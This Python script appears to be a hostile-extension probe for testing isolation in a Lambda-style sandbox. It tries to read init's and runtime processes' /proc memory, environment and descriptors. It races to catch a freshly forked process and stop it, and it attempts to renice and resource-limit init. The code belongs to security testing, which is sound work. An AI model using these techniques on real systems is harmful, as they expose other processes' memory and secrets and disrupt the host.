#!/usr/bin/python3
"""A hostile extension: tries to open init, and the runtime in the moment init forks it.

It writes what it could open to /tmp/intruder.  It refuses to run outside a sandbox.
"""

import json
import os
import signal
import socket
import time

PRIVATE = ("mem", "environ", "maps", "auxv", "io", "stack", "syscall", "smaps", "pagemap")
LINKS = ("cwd", "root", "exe", "ns/mnt", "ns/net")


def request(end, method, path, headers, body=""):
    head = f"{method} {path} HTTP/1.1\r\nHost: x\r\n{headers}Content-Length: {len(body)}\r\n\r\n"
    end.sendall((head + body).encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        answer += end.recv(65536)
    return answer.decode()


def behave():
    """In a child: register, so that the runtime is launched, and wait for events that come."""
    end = socket.create_connection(("127.0.0.1", 9001))
    name = "Lambda-Extension-Name: intruder\r\n"
    answer = request(end, "POST", "/2020-01-01/extension/register", name, '{"events":["INVOKE"]}')
    mark = "lambda-extension-identifier: "
    identifier = next(
        line[len(mark) :] for line in answer.split("\r\n") if line.lower().startswith(mark)
    )
    while True:
        request(
            end,
            "GET",
            "/2020-01-01/extension/event/next",
            f"Lambda-Extension-Identifier: {identifier}\r\n",
        )


def links(pid, folder):
    """Where the descriptors of a process lead, as far as that can be read."""
    found = {}
    try:
        names = os.listdir(f"/proc/{pid}/{folder}")
    except OSError:
        return found
    for name in names:
        try:
            found[name] = os.readlink(f"/proc/{pid}/{folder}/{name}")
        except OSError:
            pass
    return found


def opened(pid):
    """What of a process can be opened or read through a link."""
    names = []
    for name in PRIVATE:
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                if name == "mem" or file.read(1):
                    names.append(name)
        except OSError:
            pass
    for name in LINKS:
        try:
            os.readlink(f"/proc/{pid}/{name}")
            names.append(name)
        except OSError:
            pass
    return names + sorted("fd/" + name for name in links(pid, "fd"))


def others(child):
    """Every process that is neither init nor of this extension."""
    own = (1, os.getpid(), child)
    return [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in own]


def catch(first):
    """Stop the next process that init forks in the moment in which it can be opened."""
    deadline = time.monotonic() + 5
    seen = False
    while time.monotonic() < deadline:
        for pid in (first, first + 1):
            try:
                os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
            except PermissionError:
                if not seen:
                    seen, deadline = True, time.monotonic() + 0.5
                continue
            except OSError:
                continue
            os.kill(pid, signal.SIGSTOP)
            held = links(pid, "fd")
            os.kill(pid, signal.SIGCONT)
            return {"pid": pid, "descriptors": held}
    return {}


def harass():
    """What init lets be done to it."""
    import resource

    tries = {
        "renice": lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
        "renice its group": lambda: os.setpriority(os.PRIO_PGRP, 1, 19),
        "renice all": lambda: os.setpriority(os.PRIO_USER, 0, 19),
        "pin": lambda: os.sched_setaffinity(1, {0}),
        "schedule": lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
        "limit": lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (8, 8)),
        "ask its limits": lambda: resource.prlimit(1, resource.RLIMIT_NOFILE),
    }
    done = []
    for name, attempt in tries.items():
        try:
            attempt()
        except OSError:
            continue
        done.append(name)
    return done


def main():
    if os.getuid() not in (993, 994) or os.path.exists("/sys/kernel"):
        raise SystemExit("this runs inside a sandbox only")
    if len(os.sched_getaffinity(0)) > 1:
        os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
    told = {"uid": os.getuid(), "init": opened(1)}
    child = os.fork()
    if child == 0:
        behave()
    runtimes = others(child)
    # One that was booted ahead is there already.
    told["caught"] = {} if runtimes else catch(child + 1)
    told["runtimes"] = {pid: opened(pid) for pid in others(child)}
    told["harassed"] = harass()
    with open("/tmp/intruder.new", "w") as file:
        json.dump(told, file)
    os.rename("/tmp/intruder.new", "/tmp/intruder")
    signal.pause()


main()
